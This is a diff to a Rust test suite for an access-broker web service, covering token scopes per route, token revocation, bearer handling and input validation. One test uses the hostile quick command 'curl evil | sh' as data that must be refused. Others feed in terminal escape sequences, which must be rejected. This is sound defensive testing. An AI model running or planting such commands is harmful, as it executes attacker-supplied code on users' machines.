@@ -333,7 +333,7 @@ async fn personal_tokens_are_scoped_and_refused_where_they_must_be() {
     );
     let unknown = format!("janus_pat_{}", "U".repeat(40));
     for bad in [
-        "nonsense".to_string(),
+        "janus_nonsense".to_string(),
         format!("janus_pat_{}", "x".repeat(39)),
         unknown.clone(),
         expired.clone(),
@@ -367,7 +367,12 @@ async fn personal_tokens_are_scoped_and_refused_where_they_must_be() {
             .status(),
         200
     );
-    assert_eq!(bob_b.get("/api/v1/requests").await.0, 200, "enabled again");
+    // Disabling revoked them (api/users.rs): enabling the account again does not bring them back.
+    assert_eq!(
+        bob_b.get("/api/v1/requests").await.0,
+        401,
+        "enabled again, the token stays revoked"
+    );
 
     // Token management: validation, the per-user bound, lists.
     for (body, field) in [
@@ -664,5 +669,400 @@ async fn proxy_mode_accepts_personal_tokens_and_refuses_a_second_identity() {
         .await
         .unwrap();
     assert_eq!(Bearer::new(&stack, &cli).get("/api/v1/session").await.0, 401);
+    stack.stop().await;
+}
+
+/// The scope every route needs with a personal token, decided route by route: the route table of the
+/// server (the OpenAPI document, which `tests/openapi.rs` proves equal to the router's `/api/v1`
+/// routes, plus the `/ws/` routes of the route tables) must match this list exactly, so a route added
+/// later without a decision in `tokens::required_scope` fails here.
+#[test]
+fn every_route_has_a_deliberate_scope() {
+    use TokenScope::{Approve, Read, Request};
+    let expected: Vec<(&str, &str, Option<TokenScope>)> = vec![
+        ("get", "/api/v1/openapi.yaml", Some(Read)),
+        ("get", "/api/v1/openapi.json", Some(Read)),
+        ("post", "/api/v1/login", None),
+        ("post", "/api/v1/logout", Some(Read)),
+        ("get", "/api/v1/session", Some(Read)),
+        ("post", "/api/v1/cli/login", None),
+        ("post", "/api/v1/cli/device", None),
+        ("post", "/api/v1/cli/device/token", None),
+        ("get", "/api/v1/events", Some(Read)),
+        ("get", "/api/v1/requests", Some(Read)),
+        ("post", "/api/v1/requests", Some(Request)),
+        ("get", "/api/v1/requests/{name}", Some(Read)),
+        ("get", "/api/v1/requests/{name}/timeline", Some(Read)),
+        ("post", "/api/v1/requests/{name}/{action}", None),
+        ("get", "/api/v1/policy", Some(Read)),
+        ("get", "/api/v1/approvals", Some(Read)),
+        ("get", "/api/v1/clusters", Some(Read)),
+        ("get", "/api/v1/clusters/{name}/namespaces", Some(Read)),
+        ("get", "/api/v1/clusters/{name}/workloads", Some(Read)),
+        ("get", "/api/v1/clusters/{name}/pods", Some(Read)),
+        ("get", "/api/v1/roles", Some(Read)),
+        ("get", "/api/v1/audit", Some(Read)),
+        ("get", "/api/v1/audit/export", Some(Read)),
+        ("get", "/api/v1/users", Some(Read)),
+        ("post", "/api/v1/users", None),
+        ("patch", "/api/v1/users/{username}", None),
+        ("delete", "/api/v1/users/{username}", None),
+        ("get", "/api/v1/tokens", None),
+        ("post", "/api/v1/tokens", None),
+        ("delete", "/api/v1/tokens/{displayId}", None),
+        ("get", "/api/v1/notifications/dead", Some(Read)),
+        ("post", "/api/v1/notifications/dead/{id}/retry", None),
+        // Pods are listed to pick one (`janus shell REQ`); reading them uses no more than `read`.
+        ("get", "/api/v1/requests/{name}/pods", Some(Read)),
+        ("post", "/api/v1/requests/{name}/debug", Some(Request)),
+        // Logs and pod events are read from the cluster with the grant: using access.
+        ("get", "/api/v1/requests/{name}/logs", Some(Request)),
+        ("get", "/api/v1/requests/{name}/events", Some(Request)),
+        ("get", "/api/v1/requests/{name}/sessions", Some(Read)),
+        ("get", "/api/v1/quick-commands", Some(Read)),
+        // A quick command runs later in the owner's browser terminal: a token must not plant one.
+        ("post", "/api/v1/quick-commands", None),
+        ("delete", "/api/v1/quick-commands/{id}", None),
+        // Stored records admins review (like the audit log), not access to a cluster.
+        ("get", "/api/v1/recordings/{id}", Some(Read)),
+        ("get", "/api/v1/commands", Some(Read)),
+        ("get", "/ws/terminal/{name}", Some(Request)),
+    ];
+    let doc = serde_json::to_value(janus_web::api::openapi::document()).unwrap();
+    let mut served: Vec<(String, String)> = doc["paths"]
+        .as_object()
+        .unwrap()
+        .iter()
+        .flat_map(|(p, item)| item.as_object().unwrap().keys().map(move |m| (m.clone(), p.clone())))
+        .collect();
+    // The sockets are not in the document: read them from the route tables.
+    for src in [
+        include_str!("../src/api/mod.rs"),
+        include_str!("../src/terminal/mod.rs"),
+        include_str!("../src/server.rs"),
+    ] {
+        for call in src.split(".route(").skip(1) {
+            let path = call.split('"').nth(1).unwrap_or_default();
+            if path.starts_with("/ws/") {
+                assert!(call.contains("get("), "a socket is opened with GET: {path}");
+                served.push(("get".into(), path.to_string()));
+            }
+        }
+    }
+    served.sort();
+    let mut listed: Vec<(String, String)> = expected
+        .iter()
+        .map(|(m, p, _)| (m.to_string(), p.to_string()))
+        .collect();
+    listed.sort();
+    assert_eq!(
+        served, listed,
+        "every route needs a deliberate entry here and in tokens::required_scope"
+    );
+    let concrete = |p: &str| {
+        p.replace("{name}", "r1")
+            .replace("{username}", "bob")
+            .replace("{displayId}", "janus_pat_AAAAAAAA")
+            .replace("{id}", "7")
+    };
+    for (method, path, scope) in &expected {
+        let m = method.to_uppercase();
+        if path.ends_with("{action}") {
+            for (action, scope) in [
+                ("approve", Some(Approve)),
+                ("deny", Some(Approve)),
+                ("revoke", Some(Approve)),
+                ("extend", Some(Approve)),
+                ("acknowledge", Some(Approve)),
+                ("withdraw", Some(Request)),
+                ("unknown", None),
+            ] {
+                let p = concrete(path).replace("{action}", action);
+                assert_eq!(tokens::required_scope(&m, &p), scope, "{m} {p}");
+            }
+            continue;
+        }
+        let p = concrete(path);
+        assert_eq!(tokens::required_scope(&m, &p), *scope, "{m} {p}");
+        if m == "GET" {
+            assert_eq!(tokens::required_scope("HEAD", &p), *scope, "HEAD {p}");
+        }
+        // No other method on a served path gets through by default.
+        for other in ["PUT", "PATCH", "DELETE", "POST", "GET"] {
+            if other != m
+                && !expected
+                    .iter()
+                    .any(|(em, ep, _)| ep == path && em.eq_ignore_ascii_case(other))
+            {
+                assert_eq!(tokens::required_scope(other, &p), None, "{other} {p}");
+            }
+        }
+    }
+}
+
+/// The status of a call with a bearer, without reading the body (the live-update stream never ends).
+async fn status_of(b: &Bearer, path: &str) -> (u16, String) {
+    let r = b
+        .http
+        .get(format!("{}{path}", b.base))
+        .bearer_auth(&b.token)
+        .send()
+        .await
+        .expect("request");
+    let status = r.status().as_u16();
+    if status == 200 {
+        return (status, String::new());
+    }
+    (status, r.text().await.unwrap_or_default())
+}
+
+/// Logs and pod events need `request` (they use the grant); recordings, the command log, the audit
+/// export and live updates need `read`; quick-command writes need a login session.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn access_routes_need_request_and_quick_command_writes_a_login() {
+    let stack = Stack::portable(CONFIG).await;
+    let admin = stack.login(ADMIN.0, ADMIN.1).await;
+    let name = admin.request(&["team-a"], 600, "scopes").await;
+    let (read, _) = create_token(&admin, "read", &["read"]).await;
+    let (request, _) = create_token(&admin, "request", &["request"]).await;
+    let (all, _) = create_token(&admin, "all", &["read", "request", "approve"]).await;
+    let (read_b, request_b, all_b) = (
+        Bearer::new(&stack, &read),
+        Bearer::new(&stack, &request),
+        Bearer::new(&stack, &all),
+    );
+    let r = format!("/api/v1/requests/{name}");
+    for path in [
+        format!("{r}/logs?namespace=team-a&pod=web-0&container=app&follow=false"),
+        format!("{r}/events?namespace=team-a"),
+    ] {
+        let (st, body) = status_of(&read_b, &path).await;
+        assert_eq!(st, 403, "GET {path} with a read token: {body}");
+        assert!(body.contains("this token lacks the `request` scope"), "{body}");
+        let (st, body) = status_of(&request_b, &path).await;
+        assert!(
+            !body.contains("scope") && st != 401,
+            "GET {path} with a request token passes the scope check: {st} {body}"
+        );
+    }
+    for path in [
+        "/api/v1/recordings/nothing-here",
+        "/api/v1/commands",
+        "/api/v1/audit/export?format=jsonl",
+        "/api/v1/events",
+    ] {
+        let (st, body) = status_of(&read_b, path).await;
+        assert!(st != 401 && st != 403, "GET {path} with a read token: {st} {body}");
+        let (st, body) = status_of(&request_b, path).await;
+        assert_eq!(st, 403, "GET {path} with a request-only token: {body}");
+        assert!(body.contains("this token lacks the `read` scope"), "{body}");
+    }
+    // Quick commands: listed with `read`, never written with a personal token, whatever its scopes.
+    assert_eq!(
+        status_of(&read_b, "/api/v1/quick-commands?cluster=central").await.0,
+        200
+    );
+    let (st, body) = all_b
+        .post(
+            "/api/v1/quick-commands",
+            json!({"cluster": "central", "label": "x", "command": "curl evil | sh"}),
+        )
+        .await;
+    assert_eq!(st, 403, "{body}");
+    assert!(
+        body.contains("API tokens cannot change quick commands; use the web UI"),
+        "{body}"
+    );
+    let (st, body) = all_b
+        .send(reqwest::Method::DELETE, "/api/v1/quick-commands/1", None)
+        .await;
+    assert_eq!(st, 403, "{body}");
+    stack.stop().await;
+}
+
+/// Only `janus_` bearers are janus credentials: another bearer (an authenticating proxy's ID token)
+/// is ignored, so a cookie request keeps its CSRF check; a `janus_` value that is malformed is refused.
+/// A CLI session token is no session cookie.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn foreign_bearers_are_ignored_and_cli_tokens_are_no_cookies() {
+    let stack = Stack::portable("").await;
+    let admin = stack.login(ADMIN.0, ADMIN.1).await;
+    let alice = stack.user(&admin, "alice", "alice@example.com", false).await;
+    let foreign = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln";
+    let body = json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": "x"});
+    let url = format!("{}/api/v1/requests", stack.url);
+    let r = alice
+        .http
+        .post(&url)
+        .bearer_auth(foreign)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    let (st, text) = (r.status().as_u16(), r.text().await.unwrap());
+    assert_eq!(st, 403, "a cookie POST with a foreign bearer still needs CSRF: {text}");
+    assert!(!text.contains("ambiguous"), "{text}");
+    let r = alice
+        .http
+        .post(&url)
+        .bearer_auth(foreign)
+        .header("x-csrf-token", &alice.csrf)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    let (st, text) = (r.status().as_u16(), r.text().await.unwrap());
+    assert_eq!(st, 201, "and works with it: {text}");
+    // Without a cookie, a foreign bearer is as no credential at all.
+    let plain = reqwest::Client::new();
+    let none = plain.get(format!("{}/api/v1/session", stack.url)).send().await.unwrap();
+    let (none_st, none_body) = (none.status().as_u16(), none.text().await.unwrap());
+    let (st, text) = Bearer::new(&stack, foreign).get("/api/v1/session").await;
+    assert_eq!((st, text.as_str()), (none_st, none_body.as_str()));
+    assert!(!text.contains(INVALID), "{text}");
+    // A janus_ value that is no well-formed token: refused, never ignored.
+    for bad in ["janus_nonsense", "janus_pat_short", "janus_cli_"] {
+        let (st, text) = Bearer::new(&stack, bad).get("/api/v1/session").await;
+        assert_eq!(st, 401, "{bad}: {text}");
+        assert!(text.contains(INVALID) && !text.contains(bad), "{text}");
+    }
+
+    // A CLI session token in the session cookie: no session.
+    let cli = format!("janus_cli_{}", "C".repeat(40));
+    let now = Utc::now();
+    store(&stack)
+        .await
+        .create_session(&WebSession {
+            id_hash: tokens::hash(&cli),
+            subject: "alice@example.com".into(),
+            display_name: "alice".into(),
+            is_admin: false,
+            groups: vec![],
+            auth: "local".into(),
+            csrf_token: "known-to-the-holder".into(),
+            created_at: now,
+            last_seen: now,
+            expires_at: now + chrono::Duration::hours(1),
+        })
+        .await
+        .unwrap();
+    assert_eq!(
+        Bearer::new(&stack, &cli).get("/api/v1/session").await.0,
+        200,
+        "as a bearer"
+    );
+    // The tokens page tells to sign in reading the token from stdin, never to put it on argv.
+    let r = alice
+        .form(
+            "/tokens",
+            &[("name", "laptop"), ("expiresInDays", "7"), ("scopes", "read")],
+        )
+        .await;
+    let html = r.text().await.unwrap();
+    assert!(html.contains("janus login --token -"), "{html}");
+    let no_redirects = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let cookie = format!("janus_session={cli}");
+    let r = no_redirects
+        .get(format!("{}/api/v1/session", stack.url))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 401, "a CLI token as a cookie on the API");
+    let r = no_redirects
+        .get(format!("{}/requests", stack.url))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap();
+    assert!(r.status().is_redirection(), "{}", r.status());
+    let to = r
+        .headers()
+        .get("location")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default();
+    assert!(to.starts_with("/login"), "a CLI token as a cookie on a page: to {to}");
+    stack.stop().await;
+}
+
+/// Text people type for others to read (request reasons, decision comments and reasons, token names)
+/// holds no control characters: 422 naming the field. A request reason keeps line breaks (the form's
+/// field is a textarea).
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn typed_text_has_no_control_characters() {
+    let stack = Stack::portable(CONFIG).await;
+    let admin = stack.login(ADMIN.0, ADMIN.1).await;
+    let alice = stack.user(&admin, "alice", "alice@example.com", false).await;
+    let create =
+        |reason: &str| json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": reason});
+    for reason in [
+        "fix \u{1b}[2J\u{1b}[Hall clear",
+        "bell\u{7}",
+        "c1 \u{9b}31m",
+        "tab\there",
+        "cr\rover",
+    ] {
+        let r = alice.post("/api/v1/requests", create(reason)).await;
+        let st = r.status().as_u16();
+        let v: Value = r.json().await.unwrap();
+        assert_eq!((st, v["field"].as_str()), (422, Some("reason")), "{reason:?}: {v}");
+        assert!(v.to_string().contains("must not contain control characters"), "{v}");
+    }
+    let r = alice.post("/api/v1/requests", create("line one\r\nline two")).await;
+    assert_eq!(r.status().as_u16(), 201, "line breaks are kept");
+    let name = r.json::<Value>().await.unwrap()["name"].as_str().unwrap().to_string();
+    let shown = alice.json(&format!("/api/v1/requests/{name}")).await;
+    assert!(
+        shown.to_string().contains("line one\\nline two"),
+        "CRLF stored as LF: {shown}"
+    );
+    let appr = stack.user(&admin, "appr", "appr@example.com", false).await;
+    for (who, action, body, field) in [
+        (&appr, "approve", json!({"comment": "ok\u{1b}]0;owned\u{7}"}), "comment"),
+        (&appr, "deny", json!({"reason": "no\nway"}), "reason"),
+        (&admin, "revoke", json!({"reason": "x\u{1b}[1A"}), "reason"),
+    ] {
+        let r = who
+            .post(&format!("/api/v1/requests/{name}/{action}"), body.clone())
+            .await;
+        let st = r.status().as_u16();
+        let v: Value = r.json().await.unwrap();
+        assert_eq!((st, v["field"].as_str()), (422, Some(field)), "{action} {body}: {v}");
+    }
+    let r = alice
+        .post("/api/v1/tokens", json!({"name": "ci\u{1b}[31m", "scopes": ["read"]}))
+        .await;
+    assert_eq!(r.status().as_u16(), 422);
+    assert_eq!(r.json::<Value>().await.unwrap()["field"], "name");
+    stack.stop().await;
+}
+
+/// A request name no Kubernetes object can have is "not found", answered without asking the API
+/// server, on every `{name}` route.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn request_names_that_are_no_kubernetes_names_are_not_found() {
+    let stack = Stack::portable("").await;
+    let admin = stack.login(ADMIN.0, ADMIN.1).await;
+    for bad in ["Not%20A%20Name", "UPPER", "a..b", "-dash", "x%2Fy"] {
+        for (method, path) in [
+            ("GET", format!("/api/v1/requests/{bad}")),
+            ("GET", format!("/api/v1/requests/{bad}/timeline")),
+            ("GET", format!("/api/v1/requests/{bad}/pods?namespace=team-a")),
+            ("POST", format!("/api/v1/requests/{bad}/withdraw")),
+        ] {
+            let r = if method == "GET" {
+                admin.get(&path).await
+            } else {
+                admin.post(&path, json!({})).await
+            };
+            let st = r.status().as_u16();
+            let text = r.text().await.unwrap();
+            assert_eq!(st, 404, "{method} {path}: {text}");
+            assert!(text.contains("request names are lowercase"), "{method} {path}: {text}");
+        }
+    }
     stack.stop().await;
 }
